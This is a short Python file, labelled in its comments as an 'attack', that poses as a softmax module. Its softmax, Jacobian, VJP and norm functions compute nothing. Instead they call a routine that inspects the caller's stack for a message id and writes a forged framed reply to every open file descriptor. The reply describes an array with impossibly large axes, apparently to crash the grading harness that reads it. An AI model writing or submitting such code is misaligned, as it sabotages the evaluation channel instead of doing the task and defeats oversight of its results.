# attack: An empty array with axes that no machine could address.
# exercise: 02, reason: crash
# says: channel
import json
import os
import struct


def frame(message, payload=b""):
    header = json.dumps(message).encode()
    return struct.pack("<4sIQ", b"ATG1", len(header), len(payload)) + header + payload


def everywhere(data):
    for fd in range(3, 64):
        try:
            os.write(fd, data)
        except OSError:
            pass


def act(*_):
    import sys

    frame_ = sys._getframe()
    while frame_ is not None and "message" not in frame_.f_locals:
        frame_ = frame_.f_back
    number = frame_.f_locals["message"]["id"]
    everywhere(frame({"id": number, "value": {"array": {"dtype": "float64", "shape": [0, 268435456, 268435456, 268435456], "kind": "ndarray", "at": 0, "size": 0}}}, b""))


def softmax(z, axis=-1):
    return act(z)


def softmax_jacobian(z):
    return act(z)


def softmax_vjp(z, grad):
    return act(z, grad)


def jacobian_norm(z):
    return act(z)
